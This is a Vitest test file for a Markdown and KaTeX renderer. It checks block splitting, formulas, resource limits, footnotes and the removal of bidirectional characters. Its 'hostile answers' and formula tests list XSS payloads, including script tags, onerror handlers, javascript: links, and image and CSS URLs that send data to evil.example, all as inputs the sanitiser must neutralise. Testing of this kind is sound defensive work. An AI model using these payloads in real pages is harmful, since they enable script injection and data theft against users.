import { render } from "./testing";
import { describe, expect, it } from "vitest";
import { dollarMath, splitBlocks } from "./blocks";
import { STYLE } from "./schema";
import { settings } from "./weight";

describe("blocks", () => {
  const whole = (text: string) => splitBlocks(text).length;
  it("are cut at blank lines, but not inside code, formulas and lists", () => {
    expect(splitBlocks("a\n\nb\n\n\nc")).toEqual(["a\n", "b\n\n", "c"]);
    expect(whole("```\na\n\nb\n```")).toBe(1);
    expect(whole("~~~~py\n```\n\n~~~\n\n~~~~\n\nafter")).toBe(2);
    expect(whole("$$\na\n\nb\n$$")).toBe(1);
    expect(whole("- a\n\n- b\n\n  still b\n\nafter")).toBe(2);
    expect(whole("1. a\n\n   ```\n   x\n\n   y\n   ```\n\n2. b")).toBe(1);
    expect(whole("[x]\n\n[x]: https://example.org")).toBe(1);
  });
  it("put together are the text", () => {
    for (const text of ["a\n\nb", "```\nx", "# t\n\n| a |\n| - |\n\n- l\n\n\n> q", ""]) {
      expect(splitBlocks(text).join("\n").trim()).toBe(text.trim());
    }
  });
});

describe("formulas", () => {
  it("in TeX's own brackets become dollars, outside code only", () => {
    expect(dollarMath("so \\(x^2\\) and `\\(y\\)`")).toBe("so $x^2$ and `\\(y\\)`");
    expect(dollarMath("\\[x\\]")).toBe("\n$$\nx\n$$\n");
  });
  it("on a line of their own are set apart", () => {
    expect(render("$$x^2$$").querySelector(".katex-display")).not.toBeNull();
    expect(render("so $x^2$").querySelector(".katex-display")).toBeNull();
  });
  it("are typeset, with places but no addresses in their styles", () => {
    const page = render("$\\frac{a}{b}$");
    expect(page.querySelector("math mfrac")).not.toBeNull();
    expect(page.querySelector(".katex-html [style]")).not.toBeNull();
    expect(STYLE.test("height:1.2em;vertical-align:-0.5em;")).toBe(true);
    expect(STYLE.test("background:url(https://evil.example/x)")).toBe(false);
    expect(STYLE.test("position:fixed;top:0em")).toBe(false);
    expect(STYLE.test("position:relative")).toBe(true);
    expect(STYLE.test("color: rgb(255, 0, 0); border-width: 0.04em;")).toBe(true);
    expect(STYLE.test("color: image(red)")).toBe(false);
    expect(STYLE.test("height:10000em;vertical-align:-10000em;")).toBe(false);
    expect(STYLE.test("height:12.345em;vertical-align:-0.25em;width:100%")).toBe(true);
  });
  it("cannot bring links, images or HTML with them", () => {
    const page = render(
      "$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/a.png} \\htmlStyle{background:url(https://evil.example)}{y}$",
    );
    expect(page.querySelector("a[href], img")).toBeNull();
    expect(page.innerHTML).not.toMatch(/(href|src|style)="[^"]*(evil|javascript)/);
  });
});

describe("hostile answers", () => {
  const attacks = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror=\"window.hit=1\">",
    "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
    "[a](javascript:window.hit=1)",
    "[a](JaVaScRiPt&colon;window.hit=1)",
    "[a](data:text/html,<script>hit</script>)",
    "[a](vbscript:hit)",
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg onload=hit()>)",
    "<svg><animate onbegin=hit() attributeName=x></svg>",
    "<math><mtext><style><img src onerror=hit()></style></mtext></math>",
    "<a href=\"javascript:hit()\">x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "[ref]: javascript:hit()\n\n[a][ref]",
    "```html\n<script>hit()</script>\n```",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "[x](//evil.example 'onmouseover=hit()')",
    "<b id=root name=composer>x</b>",
  ];
  it.each(attacks)("%s does nothing", (attack) => {
    const page = render(attack);
    expect(page.querySelector("script, iframe, img, object, embed, form, style, link, base, meta, animate")).toBeNull();
    for (const element of page.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name.startsWith("on"), name).toBe(false);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:|#)/);
        if (name === "src" || name === "srcdoc") expect.fail(`${name}=${value}`);
        if (name === "style") expect(value).not.toMatch(/url|http/);
      }
    }
  });
  it("an image becomes its description and address, as text", () => {
    expect(render("![a cat](https://evil.example/cat.png)").textContent).toContain("https://evil.example/cat.png");
  });
  it("a link opens apart and tells nothing", () => {
    const link = render("[x](https://example.org)").querySelector("a");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });
});

describe("what is too heavy to typeset", () => {
  const one = (text: string) => settings([text])[0];
  it("is nesting, length and marks without end", () => {
    expect(one("> ".repeat(1000))).toBe("plain");
    expect(one("- ".repeat(1000))).toBe("plain");
    expect(one(`${"  ".repeat(100)}- x`)).toBe("plain");
    expect(one("[".repeat(5000))).toBe("plain");
    expect(one("x".repeat(100_000))).toBe("plain");
    expect(settings(Array(100).fill("x".repeat(10_000))).at(-1)).toBe("plain");
  });
  it("leaves formulas as they were written where they alone are too much", () => {
    expect(one(`$${"x+".repeat(5000)}x$`)).toBe("text");
    expect(one(`$${"{".repeat(100)}${"}".repeat(100)}$`)).toBe("text");
    expect(one(`$${"\\left(".repeat(100)}$`)).toBe("text");
    expect(one("$a$ ".repeat(500))).toBe("text");
    expect(settings(Array(2000).fill("$a + b + c + d + e$"))[1999]).toBe("text");
  });
  it("is nothing that people write", () => {
    expect(one("> > quoted twice\n> - and a list\n>   1. in a list")).toBe("full");
    expect(one("A sentence with *emphasis*, [a link](https://example.org) and $x^2$. ".repeat(40))).toBe("full");
    expect(one(`| a | b | c |\n| - | - | - |\n${"| 1 | 2 | 3 |\n".repeat(200)}`)).toBe("full");
    expect(one(`\`\`\`python\n${"x = [[1], [2]]\n".repeat(5000)}`)).toBe("full");
    expect(one("- an item\n".repeat(300))).toBe("full");
  });
  it("is shown whole, and says that it was not set", () => {
    const page = render("> ".repeat(1000) + "the end");
    expect(page.querySelector("blockquote")).toBeNull();
    expect(page.textContent).toContain("the end");
    expect(page.querySelector(".plain .note")).not.toBeNull();
  });
});

describe("footnotes", () => {
  it("lead to each other inside their own answer, in the language of the page", () => {
    const page = render("Said[^1] so.\n\n[^1]: By whom.");
    document.body.append(page);
    Element.prototype.scrollIntoView = () => {};
    const link = page.querySelector<HTMLAnchorElement>("sup a");
    link?.click();
    expect(document.activeElement?.getAttribute("aria-label")).toBe("Back to note 1");
    expect(link?.target).toBe("");
    const other = render("Other[^1].\n\n[^1]: Else.");
    const ids = (where: Element) => [...where.querySelectorAll("[id]")].map((one) => one.id);
    expect(ids(page).some((id) => ids(other).includes(id) && id.includes("fn"))).toBe(false);
    page.remove();
  });
});

describe("code", () => {
  it("holds no characters that turn its order around", () => {
    const page = render("```\naccess \u202e\u2066 != user\u2069\n```");
    expect(page.querySelector("code")?.textContent).toBe("access  != user");
    expect(page.querySelector(".warning")).not.toBeNull();
  });
});
